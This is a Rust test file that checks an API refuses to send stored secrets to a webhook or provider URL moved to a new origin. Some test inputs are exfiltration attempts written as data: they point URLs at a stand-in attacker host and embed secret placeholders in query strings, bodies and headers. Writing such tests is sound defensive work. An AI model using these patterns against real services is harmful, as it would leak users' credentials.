//! Changes of URLs that secrets are sent to.

use serde_json::json;

use super::{ATTACKER, HOOK, Target, pointers};

/// A secret that was unused when a URL changed origin is not sent to the new origin by a later
/// patch either.
#[tokio::test]
async fn secret_dropped_by_a_move_is_not_restored_by_a_second_patch() {
    let target = Target::new().await;
    let api = target.with(&["webhooks:write", "providers:write"]).await;
    let webhook = target.path("/v1/webhooks/{webhook}");
    let moved = json!({
        "url": ATTACKER, "auth": {"type": "none"}, "headers": null, "signing": {"type": "standard"},
    });
    assert_eq!(api.call("PATCH", &webhook, moved).await.status, 200);
    for (patch, refused) in [
        (
            json!({"body": "{\"t\": \"{secret.bot}\", \"u\": \"{secret.spare}\"}"}),
            "/secrets/bot /secrets/spare",
        ),
        (
            json!({"url": format!("{ATTACKER}?b={{secret.bot}}")}),
            "/secrets/bot",
        ),
        (
            json!({"headers": {"X-Bot": "{secret.bot}"}}),
            "/secrets/bot",
        ),
        (
            json!({"signing": {"type": "header", "name": "X-Secret"}}),
            "/secret",
        ),
        // A second change of the URL does not assign them to the new origin.
        (
            json!({"url": "https://b.example.com/", "body": "{\"t\": \"{secret.bot}\"}"}),
            "/secrets/bot",
        ),
    ] {
        let reply = api.call("PATCH", &webhook, patch.clone()).await;
        assert_eq!(
            (reply.status, pointers(&reply).as_str()),
            (422, refused),
            "{patch}: {}",
            reply.body
        );
    }
    for patch in [
        json!({"body": "{\"t\": \"{secret.bot}\"}", "secrets": {"bot": "mine"}}),
        json!({"url": HOOK, "body": "{\"t\": \"{secret.spare}\"}", "secrets": {"bot": null}}),
        json!({"signing": {"type": "header", "name": "X-Secret"}}),
    ] {
        let reply = api.call("PATCH", &webhook, patch.clone()).await;
        assert_eq!(reply.status, 200, "{patch}: {}", reply.body);
    }
    let provider = target.path("/v1/providers/{provider}");
    let moved = json!({"send_url": ATTACKER, "api_key": "mine", "auth": {"type": "bearer"}, "request": null});
    assert_eq!(api.call("PATCH", &provider, moved).await.status, 200);
    for patch in [
        json!({"auth": {"type": "basic"}}),
        json!({"request": {"headers": {"X-Y": "{secret.secret_key}"}}}),
    ] {
        let reply = api.call("PATCH", &provider, patch.clone()).await;
        assert_eq!(
            (reply.status, pointers(&reply).as_str()),
            (422, "/secret_key"),
            "{patch}: {}",
            reply.body
        );
    }
    let reply = api
        .call(
            "PATCH",
            &provider,
            json!({"auth": {"type": "basic"}, "secret_key": "mine"}),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.body);
}

/// URLs can change within their origin, and to another one if the patch includes the secrets.
#[tokio::test]
async fn address_moves_within_its_origin_or_with_its_secrets() {
    let target = Target::new().await;
    let api = target
        .with(&[
            "webhooks:write",
            "services:write",
            "services:send",
            "providers:write",
        ])
        .await;
    let brought = json!({
        "url": ATTACKER, "auth": {"password": "p"}, "headers": {"x-api-key": "k"}, "secrets": {"bot": "b"},
        "secret": "another secret of ours, long",
    });
    let account = json!({"name": "another", "authorization": {"type": "header", "name": "X-Key", "value": "mine"}});
    for (line, body) in [
        (
            "PATCH /v1/webhooks/{webhook}",
            json!({"url": "https://hook.example.com/elsewhere"}),
        ),
        ("PATCH /v1/webhooks/{webhook}", brought),
        (
            "PATCH /v1/services/{service}",
            json!({"server_url": "https://erp.example.com/v2"}),
        ),
        (
            "PATCH /v1/services/{service}",
            json!({"server_url": ATTACKER, "account": account}),
        ),
        (
            "PATCH /v1/webhooks/{at_service}",
            json!({"service_id": &target.service, "path": "/x?api_key=mine"}),
        ),
        (
            "PATCH /v1/accounts/{account}",
            json!({"authorization": {"token_url": "https://login.example.com/v2"}}),
        ),
        (
            "PATCH /v1/accounts/{account}",
            json!({"authorization": {"type": "none"}}),
        ),
        (
            "PATCH /v1/providers/{provider}",
            json!({"send_url": "https://sms.example.com/{message.id}"}),
        ),
    ] {
        let (method, path) = line.split_once(' ').expect("a method and a path");
        let reply = api.call(method, &target.path(path), body.clone()).await;
        assert_eq!(reply.status, 200, "{line} {body}: {}", reply.body);
    }
}

/// A webhook's secrets are sent to its service, so moving the service moves them.
#[tokio::test]
async fn service_moves_to_an_approved_origin() {
    let target = Target::new().await;
    let admin = &target.api;
    let second = json!({"name": "second", "server_url": "https://second.example.com", "account_id": &target.account});
    let second = admin
        .call("POST", "/v1/services", second)
        .await
        .field(201, "id");
    let api = target.with(&["services:write"]).await;
    let (path, at_first) = (
        format!("/v1/services/{second}"),
        json!({"server_url": "https://erp.example.com/x"}),
    );
    assert_eq!(api.call("PATCH", &path, at_first.clone()).await.status, 200);
    let back = json!({"server_url": "https://second.example.com"});
    assert_eq!(
        api.call("PATCH", &path, back.clone()).await.status,
        403,
        "the account no longer serves this origin"
    );
    assert_eq!(admin.call("PATCH", &path, back).await.status, 200);
    let webhook =
        json!({"name": "to it", "service_id": second, "path": "/", "events": ["message"]});
    admin
        .call("POST", "/v1/webhooks", webhook)
        .await
        .field(201, "id");
    assert_eq!(api.call("PATCH", &path, at_first.clone()).await.status, 403);
    assert_eq!(admin.call("PATCH", &path, at_first).await.status, 200);
}
